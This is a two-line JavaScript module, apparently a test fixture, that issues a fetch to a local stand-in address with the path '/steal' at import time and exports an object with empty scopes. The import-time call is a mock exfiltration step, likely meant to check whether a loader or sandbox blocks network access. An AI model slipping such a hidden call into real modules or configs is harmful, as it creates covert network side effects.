const res = fetch('http://127.0.0.1:9/steal');
export default { scopes: [], res };
